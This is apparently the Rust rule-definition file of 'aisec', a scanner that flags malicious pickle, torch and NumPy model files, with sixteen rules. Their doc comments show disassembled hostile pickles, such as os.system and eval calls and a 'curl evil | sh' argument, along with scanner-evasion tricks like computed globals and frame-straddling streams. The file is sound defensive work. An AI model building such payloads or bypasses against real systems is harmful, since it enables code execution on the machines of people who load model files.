//! The rules this crate reports (ids `AISEC-PICKLE-0NN`); `aisec rules`
//! and `docs/rules.md` show them in full.

const ATLAS: &[&str] = &["AML.T0011.000", "AML.T0010.003"];
const OWASP: &[&str] = &["LLM03"];
const REM_CODE: &str = "Do not load this file with pickle/torch.load/joblib.load. Obtain the model from a trusted source, \
or convert it to a format that cannot carry code (safetensors, ONNX) in an isolated environment.";

aisec_core::declare_rules! {
    /// ## What it detects
    /// A pickle that calls (REDUCE, NEWOBJ, NEWOBJ_EX, OBJ or INST) a global
    /// on the deny list: functions that run commands, evaluate code, or touch
    /// files or the network (`os.system`, `subprocess.Popen`, `builtins.eval`,
    /// `runpy._run_code`, ...), however the global was reached (GLOBAL,
    /// STACK_GLOBAL, the memo).
    ///
    /// ## Why it matters
    /// `pickle.load`, `torch.load` (without `weights_only=True`) and
    /// `joblib.load` make that call while loading: opening the model file runs
    /// the attacker's code with the loader's privileges.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'os system'
    /// 11: (    MARK
    /// 12: S        STRING     'id'
    /// 18: t        TUPLE      (MARK at 11)
    /// 19: R    REDUCE
    /// 20: .    STOP
    /// ```
    pub static DANGEROUS_CALL = {
        id: "AISEC-PICKLE-001",
        name: "pickle-dangerous-call",
        title: "Pickle calls a code-execution capable function",
        severity: Critical,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A pickle that imports a global on the deny list without a call of it
    /// being seen.
    ///
    /// ## Why it matters
    /// The imported function can still be called through BUILD
    /// (`__setstate__`), container methods or opcodes the analysis does not
    /// model, and legitimate model files have no reason to import it.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'builtins eval'
    /// 15: .    STOP
    /// ```
    pub static DANGEROUS_IMPORT = {
        id: "AISEC-PICKLE-002",
        name: "pickle-dangerous-import",
        title: "Pickle imports a dangerous global",
        severity: Critical,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A STACK_GLOBAL whose module or name is not a string literal but a value
    /// computed while unpickling (the result of a call, a persistent id).
    ///
    /// ## Why it matters
    /// No static scanner can know what is imported, so this is a classic way
    /// to bypass allow- and deny-list scanners.
    ///
    /// ## Example
    /// The module name is the result of calling `str('os')`:
    /// ```text
    ///  2: c    GLOBAL     'builtins str'
    /// 16: \x8c SHORT_BINUNICODE 'os'
    /// 20: \x85 TUPLE1
    /// 21: R    REDUCE
    /// 22: \x8c SHORT_BINUNICODE 'system'
    /// 30: \x93 STACK_GLOBAL
    /// ```
    pub static UNRESOLVABLE_GLOBAL = {
        id: "AISEC-PICKLE-003",
        name: "pickle-unresolvable-global",
        title: "Pickle imports a global whose name is computed at load time",
        severity: Critical,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A call of a nested deserialiser or code loader (`pickle.loads`,
    /// `torch.load`, `marshal.loads`, `types.CodeType`, ...) on data embedded
    /// in the pickle. When the payload is a literal (or `io.BytesIO` of one),
    /// aisec analyses it as a pickle too and reports what it finds there.
    ///
    /// ## Why it matters
    /// A second payload inside a byte string is invisible to scanners that
    /// look only at the outer pickle's imports.
    ///
    /// ## Example
    /// `pickle.loads(b"cos\nsystem\n(S'id'\ntR.")` written as GLOBAL
    /// `pickle loads`, a SHORT_BINBYTES argument and REDUCE.
    pub static NESTED_LOADER = {
        id: "AISEC-PICKLE-004",
        name: "pickle-nested-loader",
        title: "Pickle calls a nested deserialiser or code loader",
        severity: Critical,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A global that is neither on the allowlist (PyTorch's weights-only set,
    /// NumPy, joblib, and the profiles and entries the policy enables) nor on
    /// the deny list, imported or called.
    ///
    /// ## Why it matters
    /// Whatever the named class or function does when called runs at load
    /// time; aisec cannot tell whether it is harmless, so it needs a review.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'mylib.models Net'
    /// 18: )    EMPTY_TUPLE
    /// 19: R    REDUCE
    /// ```
    pub static UNKNOWN_GLOBAL = {
        id: "AISEC-PICKLE-005",
        name: "pickle-unknown-global",
        title: "Pickle references a global outside the allowlist",
        severity: Medium,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Review the global; if it is a trusted class of your own code, add it to [pickle] allow in the aisec policy.",
    };

    /// ## What it detects
    /// A REDUCE or NEWOBJ whose callable is not a global but a computed value:
    /// the result of another call (for example `getattr`) or a persistent id.
    ///
    /// ## Why it matters
    /// It hides what is really called; `getattr(builtins, 'eval')` followed
    /// by a call is `eval` under another name.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'builtins getattr'
    /// 18: (    MARK
    /// 19: c        GLOBAL     'builtins __builtins__'
    /// 42: S        STRING     'eval'
    /// 50: t        TUPLE      (MARK at 18)
    /// 51: R    REDUCE
    /// 52: (    MARK
    /// 53: S        STRING     '1+1'
    /// 60: t        TUPLE      (MARK at 52)
    /// 61: R    REDUCE
    /// ```
    pub static COMPUTED_CALLABLE = {
        id: "AISEC-PICKLE-006",
        name: "pickle-computed-callable",
        title: "Pickle calls a callable computed at load time",
        severity: High,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// BUILD on an instance of a non-allowlisted class (medium), or on a class
    /// or module itself (high).
    ///
    /// ## Why it matters
    /// BUILD calls the target's `__setstate__` or updates its `__dict__` and
    /// attributes: on an untrusted instance that runs its code, and on a
    /// class or module it overwrites attributes that later code calls.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'mylib Thing'
    /// 13: )    EMPTY_TUPLE
    /// 14: \x81 NEWOBJ
    /// 15: }    EMPTY_DICT
    /// 16: S    STRING     'x'
    /// 21: I    INT        1
    /// 24: s    SETITEM
    /// 25: b    BUILD
    /// ```
    pub static BUILD_UNTRUSTED = {
        id: "AISEC-PICKLE-007",
        name: "pickle-build-untrusted",
        title: "Pickle BUILD on an untrusted object",
        severity: Medium,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// The EXT1, EXT2 or EXT4 opcodes, which fetch a global from the `copyreg`
    /// extension registry by number.
    ///
    /// ## Why it matters
    /// The global is whatever the loading process registered under that
    /// code, so static analysis cannot tell what is imported; ordinary model
    /// files never use the registry.
    ///
    /// ## Example
    /// ```text
    /// 0: \x80 PROTO      2
    /// 2: \x82 EXT1       1
    /// 4: .    STOP
    /// ```
    pub static EXT_REGISTRY = {
        id: "AISEC-PICKLE-008",
        name: "pickle-extension-registry",
        title: "Pickle uses the copyreg extension registry",
        severity: High,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A pickle stream that is invalid or truncated at some offset (an unknown
    /// opcode, a stack underflow, data ending before STOP), reported after the
    /// findings made before that point.
    ///
    /// ## Why it matters
    /// `pickle.load` executes opcodes one by one, so everything before the
    /// damage still runs; scanners that give up on a broken stream miss it,
    /// and crafted damage is a known bypass.
    ///
    /// ## Example
    /// ```text
    /// 0: \x80 PROTO      4
    /// 2: \x8c SHORT_BINUNICODE 'os'
    /// 6: \x94 MEMOIZE    (as 0)
    /// (end of data before STOP)
    /// ```
    pub static MALFORMED = {
        id: "AISEC-PICKLE-009",
        name: "pickle-malformed",
        title: "Malformed or truncated pickle",
        severity: Medium,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Treat the file as untrusted; a valid model file does not contain a broken pickle.",
    };

    /// ## What it detects
    /// A pickle that needs more operations, memory, nesting depth or memo
    /// entries than the analysis limits allow, or declares a length larger
    /// than the data.
    ///
    /// ## Why it matters
    /// It is a denial-of-service payload (a "pickle bomb" that builds huge
    /// nested containers from a few bytes) or an attempt to exhaust scanners
    /// so that a payload after it goes unseen.
    ///
    /// ## Example
    /// A stream of a million `(` MARK opcodes, or BINUNICODE8 declaring a
    /// 2^60-byte string.
    pub static RESOURCE_LIMIT = {
        id: "AISEC-PICKLE-010",
        name: "pickle-resource-limit",
        title: "Pickle exceeds an analysis limit (possible pickle bomb)",
        severity: High,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Do not load the file; if it is a legitimate huge pickle, raise the limits.",
    };

    /// ## What it detects
    /// Bytes after the last STOP opcode that are not another pickle (or,
    /// in a `.npy` file, bytes after the array data).
    ///
    /// ## Why it matters
    /// Loaders ignore them, but they can carry a second payload for a custom
    /// loader, or be the rest of a polyglot file.
    ///
    /// ## Example
    /// A pickle followed by 200 bytes of shell script.
    pub static TRAILING_DATA = {
        id: "AISEC-PICKLE-011",
        name: "pickle-trailing-data",
        title: "Data after the end of the pickle",
        severity: Low,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Check why the file carries extra data.",
    };

    /// ## What it detects
    /// A NumPy `.npy` array (alone or inside a `.npz`) with object dtype
    /// (`|O`), whose data is a pickle; that pickle is analysed as well.
    ///
    /// ## Why it matters
    /// Loading it needs `numpy.load(allow_pickle=True)`, which unpickles the
    /// array data, so the file can run code for anyone who passes the flag.
    ///
    /// ## Example
    /// A header `{'descr': '|O', 'fortran_order': False, 'shape': (1,), }`
    /// followed by a pickle.
    pub static NPY_OBJECT = {
        id: "AISEC-PICKLE-012",
        name: "npy-object-array",
        title: "NumPy array with object dtype (contains a pickle)",
        severity: Low,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Prefer numeric dtypes; never pass allow_pickle=True for untrusted files.",
    };

    /// ## What it detects
    /// A `.npy` header that does not parse (bad magic, version, length or
    /// dictionary) or whose shape and dtype disagree with the file size.
    ///
    /// ## Why it matters
    /// NumPy refuses or misreads such files; a crafted header is a way to make
    /// different readers see different data.
    ///
    /// ## Example
    /// A header declaring shape `(1000000,)` of `<f8` in a 200-byte file.
    pub static NPY_HEADER = {
        id: "AISEC-PICKLE-013",
        name: "npy-invalid-header",
        title: "Invalid NumPy .npy header",
        severity: Medium,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Treat the file as untrusted.",
    };

    /// ## What it detects
    /// A pickle that calls (or BUILDs an instance whose `__setstate__` is) a
    /// callable outside the deny list that the generated capability table
    /// (`crates/aisec-pickle/capabilities.tsv`, from a call-graph analysis of
    /// the CPython standard library, torch, numpy, pandas, joblib and
    /// scikit-learn) shows can execute code, spawn processes, write files,
    /// open network connections, import modules by name or unpickle further
    /// data: a pager that runs `os.system`, a compiler helper inside torch, a
    /// module's private alias of `os` (`somemodule._os.system`),
    /// `numpy.ndarray.tofile`, a loader that fetches and unpickles a URL.
    /// Imported but not called, the same global is reported at medium.
    ///
    /// ## Why it matters
    /// A name list is what attackers route around: every published
    /// picklescan/modelscan bypass used a function nobody had listed. What a
    /// function can reach does not depend on anyone having listed it.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'pydoc pipepager'
    /// 17: (    MARK
    /// 18: S        STRING     'x'
    /// 23: S        STRING     'sh -c id'
    /// 35: t        TUPLE      (MARK at 17)
    /// 36: R    REDUCE
    /// ```
    pub static CAPABILITY_CALL = {
        id: "AISEC-PICKLE-014",
        name: "pickle-capability-call",
        title: "Pickle calls a function that can run code, processes, files or network",
        severity: Critical,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: REM_CODE,
    };

    /// ## What it detects
    /// A call of a function that is neither allowlisted nor known to the
    /// capability table, with string or bytes arguments (a command, path,
    /// URL or payload). Class-like names (CapWords, PEP 8), whose
    /// constructors ordinary checkpoints call with strings (enums such as
    /// `IntervalStrategy('steps')`), and argument-less calls stay at medium
    /// ([AISEC-PICKLE-005](#AISEC-PICKLE-005)).
    ///
    /// ## Why it matters
    /// Model files rebuild objects; they do not call free functions with
    /// text. A third-party helper the analysis cannot see into, called with
    /// attacker data at load time, is how unlisted gadgets are used.
    ///
    /// ## Example
    /// ```text
    ///  0: c    GLOBAL     'somelib.utils run_command'
    /// 27: (    MARK
    /// 28: S        STRING     'curl evil | sh'
    /// 46: t        TUPLE      (MARK at 27)
    /// 47: R    REDUCE
    /// ```
    pub static UNKNOWN_CALL_DATA = {
        id: "AISEC-PICKLE-015",
        name: "pickle-unknown-call-with-data",
        title: "Pickle calls an unknown function with string or bytes arguments",
        severity: High,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Review the function; if it is trusted code of your own, add it to [pickle] allow in the aisec policy.",
    };

    /// ## What it detects
    /// A pickle opcode, or its argument, whose bytes begin inside a FRAME
    /// (protocol 4+) and end after it.
    ///
    /// ## Why it matters
    /// CPython's readers disagree on such a stream: `pickle.loads` and
    /// buffered files read on across the frame's end, the pure-Python
    /// unpickler refuses it, and the C unpickler reading a file object without
    /// `peek` (the `io.BytesIO` that `torch.load` wraps around a zip
    /// checkpoint's `data.pkl`) drops the rest of the frame and reads the
    /// argument from the bytes after it. A crafted stream thus shows one
    /// program to a scanner and runs another. No pickler writes it (CPython's
    /// framer ends frames at opcode boundaries). Found by differential fuzzing
    /// against CPython (`fuzz/differential/`); aisec analyses both readings.
    ///
    /// ## Example
    /// ```text
    ///  0: \x80 PROTO      4
    ///  2: \x95 FRAME      9
    /// 11: c    GLOBAL     'torch.nn Linear' (frame ends after 'torch.nn')
    ///         a file-backed load reads the module line after the frame: 'os'
    /// ```
    pub static FRAME_STRADDLE = {
        id: "AISEC-PICKLE-016",
        name: "pickle-frame-straddle",
        title: "Pickle opcode crosses a FRAME boundary (loaders read different bytes)",
        severity: High,
        atlas: ATLAS,
        owasp: OWASP,
        remediation: "Treat the file as crafted to evade scanners; no pickler writes opcodes across frame ends.",
    };
}
